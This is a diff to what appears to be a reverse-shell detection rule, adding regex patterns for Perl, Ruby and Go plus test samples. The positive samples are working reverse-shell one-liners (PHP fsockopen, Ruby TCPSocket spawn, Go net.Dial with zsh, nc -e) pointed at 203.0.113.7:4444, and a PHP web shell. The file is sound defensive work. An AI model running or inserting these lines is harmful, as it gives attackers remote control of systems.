@@ -24,6 +24,11 @@ export const rule: Rule = {
     },
     // Perl
     { re: /use\s+(?:IO::)?Socket[^]*?exec\s*\(?\s*\{?["'`]?\s*(?:\/bin\/|cmd)/, window: 900 },
+    // The same where much stands between: what it reads comes from a handle, and then it becomes a shell
+    {
+      re: /open\s*\(?\s*STDIN\s*,\s*["'][+<>]{1,2}&[^]*?exec\s*\(?\s*\{?\s*["'`]\s*(?:\/(?:usr\/)?bin\/|\w{0,4}sh["'`\s]|cmd)/,
+      window: 400,
+    },
     // PHP: a socket and a shell; a request parameter that is run
     {
       re: /(?:p?fsockopen|stream_socket_client|socket_create)\s*\([^]*?(?:shell_exec|proc_open|passthru|popen|system|exec)\s*\(/,
@@ -39,6 +44,7 @@ export const rule: Rule = {
     { re: /`\s*\$_(?:GET|POST|REQUEST)\s*\[/ },
     // Ruby
     { re: /TCPSocket\.(?:new|open)\s*\(?[^]*?(?:IO\.popen|exec|\/bin\/(?:ba)?sh|spawn)/, window: 400 },
+    { re: /spawn\s*\(?\s*["'][^\n]*:out[^\n]*=>\s*TCPSocket\.(?:new|open)/, window: 200 },
     // Lua
     { re: /require\s*\(?["']socket["'][^]*?(?:os\.execute|io\.popen)\s*\(/, window: 500 },
     // Node.js
@@ -56,7 +62,10 @@ export const rule: Rule = {
     { re: /new\s+(?:java\.net\.)?Socket\s*\([^]*?(?:ProcessBuilder|\.exec\s*\()/, window: 1200 },
     { re: /(?:ProcessBuilder|\.exec\s*\()[^]*?new\s+(?:java\.net\.)?Socket\s*\(/, window: 2000 },
     // Go, C, C#, Crystal, Dart, V
-    { re: /net\.Dial\s*\([^]*?exec\.Command\s*\(\s*["'](?:\/bin\/|cmd|powershell|sh)/, window: 500 },
+    {
+      re: /net\.Dial\s*\([^]*?exec\.Command\s*\(\s*["'](?:\/(?:usr\/)?bin\/|cmd|powershell|\w{0,4}sh["'])/,
+      window: 500,
+    },
     { re: /(?:connect|bind)\s*\([^]*?dup2\s*\([^]*?exec(?:ve|l|lp|vp|le)?\s*\(/, window: 900 },
     { re: /os\.system\s*\(\s*["'](?:nc|ncat|bash|sh|\/bin\/)[^\n]*(?:-e\s|\/dev\/tcp)/ },
     { re: /TCPClient\s*\([^]*?(?:GetStream|StreamWriter)[^]*?(?:iex|Invoke-Expression|Process)/i, window: 1200 },
@@ -69,6 +78,9 @@ export const rule: Rule = {
       'php -r \'$sock=fsockopen("203.0.113.7",4444);exec("/bin/bash <&3 >&3 2>&3");\'',
       'ruby -rsocket -e\'c=TCPSocket.new("203.0.113.7","4444");IO.popen($_)\'',
       "require('child_process').exec('nc -e /bin/bash 203.0.113.7 4444')",
+      'open(STDIN, ">&SOCK");\nopen(STDOUT,">&SOCK");\nexec({"/bin/sh"} ("httpd", "-i"));',
+      "require 'socket'; spawn('sh',[:in,:out,:err]=>TCPSocket.new('203.0.113.7',4444))",
+      'c,_:=net.Dial("tcp","203.0.113.7:4444");cmd:=exec.Command("zsh");cmd.Stdin=c',
       "lua -e \"require('socket');t=socket.tcp();os.execute('/bin/bash -i');\"",
       '<?php system($_GET["cmd"]); ?>',
     ],
@@ -78,6 +90,8 @@ export const rule: Rule = {
       "const { exec } = require('child_process'); exec('git status')",
       'Socket socket = new Socket("example.com", 80);',
       'net.Dial("tcp", "golang.org:80")',
+      'open(STDIN, "<&", $saved);\nexec($^X, $0, @ARGV);',
+      'c, _ := net.Dial("tcp", "192.0.2.1:80")\ncmd := exec.Command("git", "push")',
     ],
   },
 };
